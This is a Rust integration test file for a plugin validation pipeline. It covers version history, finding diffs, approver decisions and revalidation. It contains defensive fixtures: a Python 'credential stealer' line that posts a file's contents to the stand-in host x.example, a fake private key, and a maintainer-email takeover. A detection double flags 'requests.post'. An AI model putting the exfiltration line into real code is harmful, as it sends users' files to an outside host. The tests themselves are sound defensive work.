//! Per-plugin history and the version diff through the stages, with the embedded backends:
//! sequences of versions of one plugin.

mod common;

use std::collections::BTreeMap;
use std::sync::Arc;

use common::{Env, TEST_RULES};
use validator_checks::CheckRegistry;
use validator_domain::{Check, CheckContext, CheckError, Finding, Report, RuleInfo, ScanStatus};
use validator_embedded::LocalRun;
use validator_notify::EmailSettings;
use validator_pipeline::{PipelineConfig, ScanStore};
use validator_testkit::{metadata_txt, ZipBuilder};

/// Stands in for the behaviour check (#15): a finding of check `behaviour` on every line that
/// posts data somewhere, as its credential-theft rules would.
struct FakeBehaviour;

impl Check for FakeBehaviour {
    fn id(&self) -> &'static str {
        "behaviour"
    }
    fn title(&self) -> &'static str {
        "Behaviour (test double)"
    }
    fn rules(&self) -> &'static [RuleInfo] {
        &TEST_RULES
    }
    fn run(&self, ctx: &CheckContext<'_>) -> Result<Vec<Finding>, CheckError> {
        let mut found = Vec::new();
        for entry in ctx.archive.files().filter(|e| e.path().ends_with(".py")) {
            let bytes = ctx
                .archive
                .read(entry)
                .map_err(|e| CheckError::Failed(e.to_string()))?;
            let text = String::from_utf8_lossy(&bytes);
            for (n, line) in text.lines().enumerate() {
                if line.contains("requests.post") {
                    found.push(
                        Finding::new("behaviour", &TEST_RULES[2], entry.path(), "sends data")
                            .at(n as u32 + 1, 0),
                    );
                }
            }
        }
        Ok(found)
    }
}

fn env() -> Env {
    let mut checks: Vec<Arc<dyn Check>> = Vec::new();
    let builtin = CheckRegistry::builtin();
    // The real behaviour check (#15), once registered, is replaced by the double.
    for id in builtin.ids().iter().filter(|id| id.as_str() != "behaviour") {
        checks.extend(builtin.shared(id.as_str()));
    }
    checks.push(Arc::new(FakeBehaviour));
    let config = PipelineConfig {
        email: EmailSettings {
            approvers: vec!["approver@example.org".to_owned()],
            ..EmailSettings::default()
        },
        ..PipelineConfig::default()
    };
    Env::new(CheckRegistry::with(checks), config)
}

const PLUGIN_PY: &str =
    "class Plugin:\n    def __init__(self, iface):\n        self.iface = iface\n";

/// Version `version` of the `demo` plugin with this `plugin.py` and `metadata.txt` edits.
fn version(version: &str, plugin_py: &str, metadata_edit: impl Fn(String) -> String) -> Vec<u8> {
    ZipBuilder::valid_plugin("demo")
        .file(
            "demo/metadata.txt",
            &metadata_edit(metadata_txt("demo", version)),
        )
        .file("demo/plugin.py", plugin_py)
        .build()
}

async fn upload(env: &Env, name: &str, zip: &[u8], trusted: bool) -> LocalRun {
    let metadata: BTreeMap<String, String> = [
        ("maintainers", "dev@example.org"),
        ("trusted", if trusted { "true" } else { "false" }),
    ]
    .iter()
    .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
    .collect();
    env.backends
        .run(
            &env.pipeline,
            &format!("uploads/{name}.zip"),
            zip,
            &metadata,
            1,
            |_| {},
        )
        .await
        .expect("local run")
}

fn report(run: &LocalRun) -> Report {
    let path = run.report.as_ref().expect("a report");
    serde_json::from_slice(&std::fs::read(path).expect("report file")).expect("report json")
}

/// The email file with its quoted-printable parts decoded (soft breaks joined, `=XX` bytes).
fn email_text(path: &std::path::Path) -> String {
    let raw = std::fs::read_to_string(path).expect("email");
    let joined = raw.replace("=\r\n", "").replace("=\n", "");
    let bytes = joined.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = bytes
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok())
            .and_then(|h| u8::from_str_radix(h, 16).ok());
        match (bytes[i], hex) {
            (b'=', Some(byte)) => {
                out.push(byte);
                i += 3;
            }
            (b, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn same(a: String) -> String {
    a
}

#[tokio::test]
async fn the_first_version_says_so_and_a_new_finding_is_new_since_then() {
    let env = env();
    let first = upload(
        &env,
        "demo-1.0.0",
        &version("1.0.0", PLUGIN_PY, same),
        false,
    )
    .await;
    assert_eq!(first.scan.status, ScanStatus::Validated);
    let first_report = report(&first);
    assert!(first_report.first_version);
    assert!(first_report.diff.is_none());
    assert!(
        !first_report.files.is_empty(),
        "the report keeps the file list"
    );
    assert_eq!(
        first_report.metadata.get("version").map(String::as_str),
        Some("1.0.0")
    );
    assert!(first_report
        .findings
        .iter()
        .all(|f| f.fingerprint.is_some()));
    assert_eq!(env.events()[0]["first_version"], true);
    let results = email_text(
        &first
            .emails
            .iter()
            .find(|p| p.to_string_lossy().ends_with("-results.eml"))
            .expect("results email")
            .clone(),
    );
    assert!(
        results.contains("This is the first version of this plugin we have checked"),
        "{results}"
    );
    let html = &results[results.find("text/html").expect("an HTML part")..];
    assert!(html.contains("first version of this plugin"), "{html}");

    let with_assert = format!("{PLUGIN_PY}\n\ndef check(x):\n    assert x\n");
    let second = upload(
        &env,
        "demo-1.1.0",
        &version("1.1.0", &with_assert, same),
        false,
    )
    .await;
    let diff = report(&second).diff.expect("a diff");
    assert_eq!(diff.base.version.as_deref(), Some("1.0.0"));
    assert_eq!(diff.base.scan_id.as_ref(), Some(&first.scan.id));
    let new: Vec<&str> = diff.findings.new.iter().map(|f| f.rule.as_str()).collect();
    assert_eq!(new, ["B101"]);
    assert!(diff.findings.fixed.is_empty());
    assert_eq!(diff.files.changed.len(), 2, "{:?}", diff.files); // plugin.py, metadata.txt
    let event = &env.events()[1];
    assert_eq!(event["diff"]["new_findings"], 1);
    assert_eq!(event["diff"]["base_version"], "1.0.0");
    assert_eq!(event["first_version"], false);

    // The history, newest first.
    let history = env
        .backends
        .store
        .history("package:demo", 10)
        .await
        .expect("history");
    let ids: Vec<_> = history.iter().map(|e| e.scan_id.clone()).collect();
    assert_eq!(ids, [second.scan.id.clone(), first.scan.id.clone()]);
}

#[tokio::test]
async fn a_finding_moved_by_an_edit_is_unchanged_and_a_fix_is_listed() {
    let env = env();
    let v1 = format!("{PLUGIN_PY}\ndef check(x):\n    assert x\n\ndef other(y):\n    assert y\n");
    upload(&env, "demo-1.0.0", &version("1.0.0", &v1, same), false).await;
    let v2 = format!(
        "import os\n\n\n{PLUGIN_PY}\n# a helper\ndef check(x):\n    assert   x  # checked\n"
    );
    let run = upload(&env, "demo-1.0.1", &version("1.0.1", &v2, same), false).await;
    let diff = report(&run).diff.expect("a diff");
    assert!(diff.findings.new.is_empty(), "{:?}", diff.findings.new);
    let fixed: Vec<&str> = diff
        .findings
        .fixed
        .iter()
        .map(|f| f.rule.as_str())
        .collect();
    assert_eq!(fixed, ["B101"]);
    assert_eq!(diff.findings.fixed[0].line, Some(9));
    assert!(diff.findings.unchanged >= 1);
}

#[tokio::test]
async fn a_credential_stealer_added_to_a_trusted_plugin_is_held_for_review() {
    let env = env();
    let first = upload(&env, "demo-2.3", &version("2.3", PLUGIN_PY, same), true).await;
    assert!(first.scan.auto_approved);
    let stealer = format!(
        "import requests\n{PLUGIN_PY}\n\ndef sync(path):\n    requests.post('https://x.example', data=open(path).read())\n"
    );
    let run = upload(&env, "demo-2.4", &version("2.4", &stealer, same), true).await;
    assert_eq!(run.scan.status, ScanStatus::Validated);
    assert!(
        !run.scan.auto_approved,
        "a sleeper update is never auto-approved"
    );
    assert!(
        run.scan
            .reasons
            .iter()
            .any(|r| r.contains("held for review") && r.contains("new since 2.3")),
        "{:?}",
        run.scan.reasons
    );
    let diff = report(&run).diff.expect("a diff");
    assert_eq!(diff.new_behaviour().count(), 1);
    assert_eq!(
        env.events()[1]["diff"]["sleeper_reasons"]
            .as_array()
            .map(Vec::len),
        Some(1)
    );
    // The approvers are asked to look, and the email leads with the change.
    let approvers = env.emails("approvers_review");
    assert_eq!(approvers.len(), 1);
    let text = email_text(&approvers[0]);
    assert!(
        text.contains("new since 2.3: 2 findings; fixed: 0"),
        "{text}"
    );
    assert!(text.contains("held for review"), "{text}");
    let html = &text[text.find("text/html").expect("an HTML part")..];
    assert!(
        html.contains("What changed: new since 2.3: 2 findings; fixed: 0"),
        "{html}"
    );
    assert!(
        html.contains("<strong>held for review: 1 behaviour finding"),
        "{html}"
    );

    // A version held for review is no base: the next upload with the same code is compared
    // with 2.3 again and held again (it does not pass because 2.4 "already had it").
    let again = upload(&env, "demo-2.4.1", &version("2.4.1", &stealer, same), true).await;
    let diff = report(&again).diff.expect("a diff");
    assert_eq!(diff.base.version.as_deref(), Some("2.3"));
    assert!(!again.scan.auto_approved, "{:?}", again.scan.reasons);
}

#[tokio::test]
async fn a_new_maintainer_email_holds_the_version_and_is_highlighted() {
    let env = env();
    upload(&env, "demo-1.0.0", &version("1.0.0", PLUGIN_PY, same), true).await;
    let takeover = |m: String| m.replace("jane@example.org", "mallory@example.net");
    let run = upload(
        &env,
        "demo-1.0.1",
        &version("1.0.1", PLUGIN_PY, takeover),
        true,
    )
    .await;
    assert!(!run.scan.auto_approved);
    let diff = report(&run).diff.expect("a diff");
    let email = diff
        .metadata
        .iter()
        .find(|m| m.key == "email")
        .expect("email changed");
    assert!(email.sensitive);
    assert_eq!(email.new.as_deref(), Some("mallory@example.net"));
    let results = env.emails("results");
    let text = email_text(results.last().expect("results email"));
    assert!(
        text.contains("new since 1.0.0: 0 findings; fixed: 0"),
        "{text}"
    );
    assert!(
        text.contains("  ! metadata.txt email: jane@example.org -> mallory@example.net"),
        "{text}"
    );
    let html = &text[text.find("text/html").expect("an HTML part")..];
    assert!(html.contains("<strong>email</strong>"), "{html}");
    assert!(html.contains("mallory@example.net"), "{html}");
}

#[tokio::test]
async fn the_base_is_the_last_validated_version_not_a_blocked_one_in_between() {
    let env = env();
    let good = upload(
        &env,
        "demo-1.0.0",
        &version("1.0.0", PLUGIN_PY, same),
        false,
    )
    .await;
    // 1.1.0 is blocked: a private key (critical secret).
    let key = format!(
        "{PLUGIN_PY}\nKEY = '''-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----'''\n"
    );
    let blocked = upload(&env, "demo-1.1.0", &version("1.1.0", &key, same), false).await;
    assert_eq!(blocked.scan.status, ScanStatus::Blocked);
    assert_eq!(
        report(&blocked).diff.expect("diff").base.scan_id,
        Some(good.scan.id.clone())
    );
    let fixed = upload(
        &env,
        "demo-1.1.1",
        &version("1.1.1", PLUGIN_PY, same),
        false,
    )
    .await;
    let diff = report(&fixed).diff.expect("a diff");
    assert_eq!(diff.base.version.as_deref(), Some("1.0.0"));
    assert!(diff.base.validated);
    // The first results email of the blocked version says what is new.
    let results = env.emails("results");
    assert_eq!(results.len(), 3);
    assert!(
        results
            .iter()
            .map(|p| email_text(p))
            .any(|t| t.contains("new since 1.0.0: 1 finding")),
        "no results email leads with the change"
    );
}

#[tokio::test]
async fn the_sqlite_history_keeps_one_entry_per_scan_newest_first() {
    let env = env();
    for v in ["1.0.0", "1.0.1", "1.0.2"] {
        upload(
            &env,
            &format!("demo-{v}"),
            &version(v, PLUGIN_PY, same),
            false,
        )
        .await;
    }
    let store = &env.backends.store;
    let history = store.history("package:demo", 10).await.expect("history");
    let versions: Vec<_> = history.iter().filter_map(|e| e.version.clone()).collect();
    assert_eq!(versions, ["1.0.2", "1.0.1", "1.0.0"]);
    store.record_history(&history[1]).await.expect("idempotent");
    assert_eq!(store.history("package:demo", 10).await.unwrap(), history);
    assert_eq!(
        store.history("package:demo", 2).await.unwrap(),
        history[..2]
    );
    assert!(store.history("package:other", 10).await.unwrap().is_empty());
    // Each version was compared with the one before it.
    let third = store.get_scan(&history[0].scan_id).await.unwrap().unwrap();
    let blob = std::fs::read(
        env.backends
            .blobs
            .path_of(third.report_key.as_deref().unwrap())
            .unwrap(),
    )
    .unwrap();
    let report: Report = serde_json::from_slice(&blob).unwrap();
    assert_eq!(report.diff.unwrap().base.version.as_deref(), Some("1.0.1"));
}

fn decision(
    finding: &Finding,
    role: validator_domain::DeciderRole,
    withdrawn: bool,
) -> validator_domain::ReviewDecision {
    validator_domain::ReviewDecision {
        plugin: "package:demo".to_owned(),
        path: finding.path.clone(),
        fingerprint: finding.fingerprint.clone().expect("fingerprint"),
        rule: finding.rule.clone(),
        kind: validator_domain::DecisionKind::FalsePositive,
        reason: "a test fixture, not a key".to_owned(),
        by: "approver@example.org".to_owned(),
        role,
        at: validator_domain::now(),
        withdrawn,
    }
}

#[tokio::test]
async fn a_false_positive_accepted_on_one_version_carries_to_the_same_code_in_the_next() {
    use validator_domain::DeciderRole;
    let env = env();
    let key = format!(
        "{PLUGIN_PY}\nKEY = '''-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----'''\n"
    );
    let first = upload(&env, "demo-1.0.0", &version("1.0.0", &key, same), false).await;
    assert_eq!(first.scan.status, ScanStatus::Blocked);
    let blocking: Vec<Finding> = report(&first)
        .findings
        .into_iter()
        .filter(|f| f.blocking)
        .collect();
    assert!(!blocking.is_empty());
    let store = &env.backends.store;
    // The uploader's word does not count for a mandatory rule.
    for f in &blocking {
        store
            .record_decision(&decision(f, DeciderRole::Uploader, false))
            .await
            .unwrap();
    }
    assert!(
        blocking.iter().all(|f| f.mandatory),
        "Private Key is mandatory"
    );
    let second = upload(&env, "demo-1.0.1", &version("1.0.1", &key, same), false).await;
    assert_eq!(second.scan.status, ScanStatus::Blocked);
    assert!(report(&second)
        .findings
        .iter()
        .all(|f| f.decision.is_none()));
    // An approver's decision does; the finding shows it and no longer blocks.
    for f in &blocking {
        store
            .record_decision(&decision(f, DeciderRole::Approver, false))
            .await
            .unwrap();
    }
    let moved = format!("import os\n\n{key}");
    let third = upload(&env, "demo-1.0.2", &version("1.0.2", &moved, same), false).await;
    assert_eq!(
        third.scan.status,
        ScanStatus::Validated,
        "{:?}",
        third.scan.reasons
    );
    let decided: Vec<Finding> = report(&third)
        .findings
        .into_iter()
        .filter(|f| f.decision.is_some())
        .collect();
    assert_eq!(decided.len(), blocking.len());
    assert!(decided.iter().all(|f| !f.blocking));
    // Withdrawn: it blocks again. The trail keeps every record.
    for f in &blocking {
        let mut withdrawal = decision(f, DeciderRole::Approver, true);
        withdrawal.at += time::Duration::seconds(1);
        store.record_decision(&withdrawal).await.unwrap();
    }
    let fourth = upload(&env, "demo-1.0.3", &version("1.0.3", &key, same), false).await;
    assert_eq!(fourth.scan.status, ScanStatus::Blocked);
    assert_eq!(
        store.decisions("package:demo").await.unwrap().len(),
        blocking.len() * 3
    );
}

#[tokio::test]
async fn a_blocked_version_whose_blocking_findings_are_all_decided_becomes_validated() {
    use validator_pipeline::{reconsider, ReconsiderOutcome};
    let env = env();
    let key = format!(
        "{PLUGIN_PY}\nKEY = '''-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----'''\n"
    );
    let run = upload(&env, "demo-1.0.0", &version("1.0.0", &key, same), false).await;
    let id = run.scan.id.clone();
    assert_eq!(run.scan.status, ScanStatus::Blocked);
    let blocking: Vec<Finding> = report(&run)
        .findings
        .into_iter()
        .filter(|f| f.blocking)
        .collect();
    assert!(matches!(
        reconsider(&env.pipeline, &id).await.unwrap(),
        ReconsiderOutcome::StillBlocked { .. }
    ));
    for f in &blocking {
        env.backends
            .store
            .record_decision(&decision(f, validator_domain::DeciderRole::Approver, false))
            .await
            .unwrap();
    }
    let outcome = reconsider(&env.pipeline, &id).await.unwrap();
    let ReconsiderOutcome::Revalidated { emails, .. } = outcome else {
        panic!("not revalidated: {outcome:?}");
    };
    assert_eq!(emails.len(), 1);
    let scan = env.scan(&id).await;
    assert_eq!(scan.status, ScanStatus::Validated);
    assert!(!scan.auto_approved && scan.reviewed_at.is_some());
    let text = email_text(std::path::Path::new(&emails[0]));
    assert!(text.contains("validated after review"), "{text}");
    let events = env.events();
    assert_eq!(events.len(), 2);
    assert_eq!(events[1]["status"], "validated");
    assert_eq!(events[1]["reviewed"], true);
    let stored = report(&run);
    assert_eq!(stored.status, ScanStatus::Validated);
    assert!(stored.findings.iter().any(|f| f.decision.is_some()));
    // Again: nothing more is sent.
    assert_eq!(
        reconsider(&env.pipeline, &id).await.unwrap(),
        ReconsiderOutcome::Revalidated {
            emails: Vec::new(),
            missing: Vec::new()
        }
    );
    assert_eq!(env.events().len(), 2);
}
